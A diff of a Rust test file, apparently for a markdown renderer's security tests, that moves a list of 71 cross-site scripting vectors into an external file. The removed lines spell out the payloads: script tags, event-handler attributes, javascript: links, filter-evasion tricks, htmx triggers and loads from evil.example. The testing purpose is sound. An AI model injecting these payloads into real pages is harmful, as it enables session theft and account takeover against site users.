@@ -12,80 +12,8 @@ use domain::{
 };
 use pulldown_cmark::{Event, Parser, Tag};
 
-/// What people try; `{n}` tells them apart.
-const VECTORS: [&str; 71] = [
-    "<script>alert({n})</script>",
-    "<ScRiPt SrC=//evil.example/{n}></sCrIpT>",
-    "<img src=x onerror=alert({n})>",
-    "<svg/onload=alert({n})>",
-    "\" onmouseover=\"alert({n})",
-    "' onfocus='alert({n})' autofocus='",
-    "\"><script>alert({n})</script>",
-    "'><img src=x onerror=alert({n})>",
-    "</textarea><script>alert({n})</script>",
-    "</title></style></script><script>alert({n})</script>",
-    "--><script>alert({n})</script><!--",
-    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
-    "<a href=javascript:alert({n})>here</a>",
-    "<math><mtext></mtext><mglyph><style><img src onerror=alert({n})></style></math>",
-    "<details open ontoggle=alert({n})>",
-    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
-    "<base href=//evil.example/{n}/>",
-    "{{constructor.constructor('alert({n})')()}}<b>",
-    "[here](javascript:alert({n})) <b>",
-    "`</code></pre><script>alert({n})</script>",
-    "<svg><script>alert({n})</script></svg>",
-    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
-    "<svg><a xlink:href=javascript:alert({n})><text x=9 y=9>here</text></a></svg>",
-    "<svg><use href='data:image/svg+xml,<svg onload=alert({n})/>'/>",
-    "<body onload=alert({n})>",
-    "<body background=javascript:alert({n})>",
-    "<input autofocus onfocus=alert({n})>",
-    "<select autofocus onfocus=alert({n})><option>",
-    "<button formaction=javascript:alert({n})>here",
-    "<form action=javascript:alert({n})><input type=submit>",
-    "<video><source onerror=alert({n})></video>",
-    "<audio src=x onerror=alert({n})>",
-    "<object data=javascript:alert({n})></object>",
-    "<embed src=javascript:alert({n})>",
-    "<frameset onload=alert({n})><frame src=//evil.example/{n}>",
-    "<link rel=stylesheet href=//evil.example/{n}.css>",
-    "<link rel=import href=data:text/html,alert({n})>",
-    "<style>@import '//evil.example/{n}';</style>",
-    "<style>*{background:url(javascript:alert({n}))}</style>",
-    "<p style=animation-name:x onanimationstart=alert({n})>",
-    "<div style='width:expression(alert({n}))'>",
-    "<marquee onstart=alert({n})>",
-    "<isindex action=javascript:alert({n}) type=image>",
-    "<table background=javascript:alert({n})>",
-    "<img src='x' onerror  =  alert({n})>",
-    "<img/src='x'/onerror=alert({n})>",
-    "<img src=x onerror=&#97;lert({n})>",
-    "<<script>alert({n})//<</script>",
-    "<scr<script>ipt>alert({n})</scr</script>ipt>",
-    "<script/x>alert({n})</script>",
-    "<script>alert({n})",
-    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
-    "<template><script>alert({n})</script></template>",
-    "<xmp><p title='</xmp><img src=x onerror=alert({n})>'>",
-    "<plaintext><script>alert({n})</script>",
-    "<!--><img src=x onerror=alert({n})>-->",
-    "<![CDATA[><script>alert({n})</script>]]>",
-    "<?xml version='1.0'?><script>alert({n})</script>",
-    "<a href='&#106;avascript:alert({n})'>here</a>",
-    "<a href='java&Tab;script:alert({n})'>here</a>",
-    "<a href=' &#14; javascript:alert({n})'>here</a>",
-    "<div hx-get=/sign-out hx-trigger=load>{n}</div>",
-    "<div hx-on:click=alert({n})>here</div>",
-    "<button hx-post=/settings/people hx-vals='{\"n\":{n}}'>here",
-    "![x](javascript:alert({n})) <b>",
-    "<javascript:alert({n})>",
-    "[x]: javascript:alert({n}) \"<b>\"",
-    "```<script>alert({n})</script>",
-    "${alert({n})}<b>`${alert({n})}`",
-    "</script><script>alert({n})</script>",
-    "&lt;script&gt;alert({n})&lt;/script&gt;<b>",
-];
+/// What people try, a line each; `{n}` tells them apart. The journey that pastes them reads the same file.
+const WORDS: &str = include_str!("../hostile-words.txt");
 
 const HOSTILE_LINKS: [&str; 4] = [
     "javascript:alert(1)",
@@ -104,7 +32,10 @@ fn vectors() -> Vec<String> {
 }
 
 pub fn all_vectors() -> Vec<String> {
-    VECTORS.iter().enumerate().map(|(n, text)| text.replace("{n}", &format!("9{n:02}"))).collect()
+    let vectors: Vec<String> =
+        WORDS.lines().enumerate().map(|(n, text)| text.replace("{n}", &format!("9{n:02}"))).collect();
+    assert_eq!(vectors.len(), 71, "none of them went away");
+    vectors
 }
 
 /// One string that holds them all, as far as `room` characters allow.
